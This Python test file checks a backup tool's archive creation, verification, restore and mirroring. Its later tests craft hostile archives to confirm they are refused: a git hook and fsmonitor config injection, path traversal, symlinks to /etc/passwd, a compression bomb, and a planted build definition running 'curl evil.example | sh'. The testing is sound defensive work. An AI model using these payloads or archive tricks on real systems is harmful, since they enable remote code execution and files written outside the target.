"""`shipyard backup`: archive, verify, restore into a new folder, mirror to a bare remote."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import tarfile
from pathlib import Path

import pytest

from tests.conftest import GitRepo, git, run_cli


def project(repo: GitRepo) -> None:
    repo.write(
        "shipyard.toml", '[stages.build]\nrun = "mkdir -p dist && echo wheel > dist/x.whl"\n'
    )
    repo.commit("init")
    repo.tag("v1.0.0", "release 1.0.0")
    assert run_cli("run", cwd=repo.path).returncode == 0


def test_create_verify_restore_round_trip(repo: GitRepo, tmp_path: Path) -> None:
    project(repo)
    archive = tmp_path / "b.tar.gz"
    r = run_cli("backup", "create", "-o", str(archive), cwd=repo.path)
    assert r.returncode == 0, r.stderr
    assert r.stdout.endswith("artifacts: dist)\n")
    assert run_cli("backup", "verify", str(archive), cwd=tmp_path).stdout == f"{archive}: ok\n"
    dest = tmp_path / "restored"
    r = run_cli("backup", "restore", str(archive), "--to", str(dest), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert git(dest, "tag").split() == ["v1.0.0"]
    assert git(dest, "rev-parse", "HEAD") == repo.git("rev-parse", "HEAD")
    assert (dest / "dist" / "x.whl").read_text() == "wheel\n"
    runs = json.loads(run_cli("runs", "--json", cwd=dest).stdout)["runs"]
    assert [r["result"] for r in runs] == ["passed"]  # the run history came back too


def test_a_tampered_archive_does_not_verify_or_restore(repo: GitRepo, tmp_path: Path) -> None:
    project(repo)
    archive = tmp_path / "b.tar.gz"
    run_cli("backup", "create", "-o", str(archive), cwd=repo.path)
    work = tmp_path / "x"
    with tarfile.open(archive) as tar:
        tar.extractall(work, filter="data")
    size = (work / "shipyard.db").stat().st_size
    (work / "shipyard.db").write_bytes(b"garbage")
    bad = tmp_path / "bad.tar.gz"
    with tarfile.open(bad, "w:gz") as tar:
        tar.add(work / "MANIFEST.json", arcname="MANIFEST.json")
        for p in sorted(work.iterdir()):
            if p.name != "MANIFEST.json":
                tar.add(p, arcname=p.name)
    r = run_cli("backup", "verify", str(bad), cwd=tmp_path)
    assert (r.returncode, r.stderr) == (
        1,
        f"error: {bad} does not verify: shipyard.db: "
        f"size 7, the manifest says {size}; shipyard.db: file is not a "
        "database\n",
    )
    r = run_cli("backup", "restore", str(bad), "--to", str(tmp_path / "r"), cwd=tmp_path)
    assert r.returncode == 2 and not (tmp_path / "r").exists()
    junk = tmp_path / "junk.tar.gz"
    junk.write_text("not an archive")
    r = run_cli("backup", "verify", str(junk), cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.startswith(f"error: {junk}: not a shipyard backup")


def test_mirror_pushes_every_branch_and_tag(repo: GitRepo, tmp_path: Path) -> None:
    project(repo)
    repo.git("branch", "maint")
    bare = tmp_path / "mirror.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    assert run_cli("backup", "mirror", str(bare), cwd=repo.path).returncode == 0
    refs = git(bare, "for-each-ref", "--format=%(refname)").split()
    assert refs == ["refs/heads/main", "refs/heads/maint", "refs/tags/v1.0.0"]


# Hostile archives: each is crafted from a real one, the way an attacker who can replace a
# backup file would, and must be refused (exit 2, nothing written) or restored safely.


def _real_archive(repo: GitRepo, tmp_path: Path) -> Path:
    project(repo)
    archive = tmp_path / "real.tar.gz"
    assert run_cli("backup", "create", "-o", str(archive), cwd=repo.path).returncode == 0
    return archive


def _craft(
    real: Path,
    out: Path,
    extra: list[tuple[tarfile.TarInfo, bytes | None]],
    listed: bool = False,
    artifacts: list[str] | None = None,
) -> Path:
    """`real`'s members plus `extra`; with `listed`, the manifest lists the extra files with
    their right checksums, as an attacker who rewrites the manifest would."""
    with tarfile.open(real) as tar:
        members = [(m, tar.extractfile(m).read()) for m in tar.getmembers()]  # type: ignore[union-attr]
    manifest = json.loads(members[0][1])
    if listed:
        for info, data in extra:
            if info.isfile() and data is not None:
                digest = hashlib.sha256(data).hexdigest()
                manifest["files"][info.name] = {"size": len(data), "sha256": digest}
    if artifacts is not None:
        manifest["artifacts"] = artifacts
    raw = json.dumps(manifest).encode()
    head = tarfile.TarInfo("MANIFEST.json")
    head.size = len(raw)
    with tarfile.open(out, "w:gz") as tar:
        tar.addfile(head, io.BytesIO(raw))
        for info, data in [*members[1:], *extra]:
            if data is not None and info.isfile():
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None and info.isfile() else None)
    return out


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def _link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


HOOK = b"#!/bin/sh\ntouch /tmp/pwned\n"
FSMONITOR = b"[core]\n\tfsmonitor = touch /tmp/pwned\n"


@pytest.mark.parametrize(
    ("extra", "listed", "artifacts", "message"),
    [
        ([_file("artifacts/.git/hooks/post-checkout", HOOK)], False, None,
         "the member artifacts/.git/hooks/post-checkout is not in MANIFEST.json"),
        ([_file("artifacts/.git/config", FSMONITOR)], True, [".git", "dist"],
         "MANIFEST.json: artifacts must be relative paths outside .git/"),
        ([_file("artifacts/dist/.git/config", FSMONITOR)], True, None,
         "MANIFEST.json: the entry 'artifacts/dist/.git/config' is not a member shipyard writes"),
        ([_file("artifacts/shipyard.toml", b"x")], False, None,
         "the member artifacts/shipyard.toml is not in MANIFEST.json"),
        ([_file("../escape.txt", b"x")], False, None,
         "the member '../escape.txt' is not a plain relative path"),
        ([_file("/tmp/abs.txt", b"x")], False, None,
         "the member '/tmp/abs.txt' is not a plain relative path"),
        ([_link("artifacts/dist/passwd", "/etc/passwd", tarfile.SYMTYPE)], False, None,
         "the member artifacts/dist/passwd is a symbolic link to /etc/passwd"),
        ([_link("artifacts/dist/hard", "repo.bundle", tarfile.LNKTYPE)], False, None,
         "the member artifacts/dist/hard is a hard link to repo.bundle"),
    ],
)  # fmt: skip
@pytest.mark.slow
def test_hostile_archives_are_refused_with_exit_2(
    repo: GitRepo,
    tmp_path: Path,
    extra: list[tuple[tarfile.TarInfo, bytes | None]],
    listed: bool,
    artifacts: list[str] | None,
    message: str,
) -> None:
    bad = _craft(_real_archive(repo, tmp_path), tmp_path / "bad.tar.gz", extra, listed, artifacts)
    for args in (("verify", str(bad)), ("restore", str(bad), "--to", str(tmp_path / "r"))):
        r = run_cli("backup", *args, cwd=tmp_path)
        assert (r.returncode, r.stderr.splitlines()[0]) == (2, f"error: {bad}: {message}")
        assert "Traceback" not in r.stderr
    assert not (tmp_path / "r").exists()
    assert not (tmp_path / "escape.txt").exists() and not Path("/tmp/abs.txt").exists()


def test_a_planted_definition_is_not_restored_over_the_repository_without_force(
    repo: GitRepo, tmp_path: Path
) -> None:
    planted = b'[stages.build]\nrun = "curl evil.example | sh"\n'
    bad = _craft(
        _real_archive(repo, tmp_path),
        tmp_path / "planted.tar.gz",
        [_file("artifacts/shipyard.toml", planted)],
        listed=True,
        artifacts=["dist", "shipyard.toml"],
    )
    assert run_cli("backup", "verify", str(bad), cwd=tmp_path).returncode == 0  # well-formed
    dest = tmp_path / "r"
    r = run_cli("backup", "restore", str(bad), "--to", str(dest), cwd=tmp_path)
    assert (r.returncode, r.stderr.splitlines()[0]) == (
        2,
        "error: the archive's artifacts would replace files of the repository: shipyard.toml",
    )
    assert not dest.exists()  # no half-restored folder
    r = run_cli("backup", "restore", str(bad), "--to", str(dest), "--force", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert (dest / "shipyard.toml").read_bytes() == planted  # the user asked for it


def test_a_symlinked_folder_in_the_repository_cannot_lead_a_restore_outside(
    repo: GitRepo, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    real = _real_archive(repo, tmp_path)
    repo.git("rm", "-q", "--cached", "--ignore-unmatch", "dist")
    (repo.path / "dist").rename(tmp_path / "old-dist")
    (repo.path / "dist").symlink_to(outside)
    repo.commit("dist is a link")
    attacked = tmp_path / "attacked.tar.gz"
    assert run_cli("backup", "create", "-o", str(attacked), cwd=repo.path).returncode == 0
    # the new bundle tracks dist -> outside; the old archive's artifacts go into dist/
    with tarfile.open(real) as tar:
        old_artifact = tar.extractfile("artifacts/dist/x.whl").read()  # type: ignore[union-attr]
    bad = _craft(attacked, tmp_path / "bad.tar.gz", [_file("artifacts/dist/x.whl", old_artifact)],
                 listed=True, artifacts=["dist"])  # fmt: skip
    r = run_cli("backup", "restore", str(bad), "--to", str(tmp_path / "r"), cwd=tmp_path)
    assert r.returncode == 2, r.stderr
    assert "artifacts/dist/x.whl: its folder in the repository leads outside" in r.stderr
    assert list(outside.iterdir()) == []


def test_size_and_ratio_limits(repo: GitRepo, tmp_path: Path) -> None:
    zeros = b"\0" * (40 * 1024 * 1024)  # 40 MB that gzip squeezes to ~40 KB: a bomb's ratio
    bomb = _craft(_real_archive(repo, tmp_path), tmp_path / "bomb.tar.gz",
                  [_file("artifacts/dist/zeros.bin", zeros)], listed=True)  # fmt: skip
    r = run_cli("backup", "verify", str(bomb), cwd=tmp_path)
    assert r.returncode == 2
    assert "times its size (limit 200): a compression bomb?" in r.stderr.splitlines()[0]
    r = run_cli("backup", "verify", str(bomb), "--max-size", "1M", cwd=tmp_path)
    assert (r.returncode, r.stderr.splitlines()[0]) == (
        2,
        f"error: {bomb}: expands to more than 1048576 bytes",
    )


def test_an_unnamed_archive_goes_under_the_state_folder(repo: GitRepo) -> None:
    """No `backups/` (6 MB on a real project) left untracked in the project root."""
    project(repo)
    r = run_cli("backup", "create", cwd=repo.path)
    assert r.returncode == 0, r.stderr
    (archive,) = (repo.path / ".shipyard" / "backups").glob("repo-*.tar.gz")
    assert r.stdout.startswith(f"wrote {archive} (")
    assert not (repo.path / "backups").exists()
    assert (
        repo.git("status", "--porcelain") == "?? dist/\n"
    )  # the build output; .shipyard ignores itself
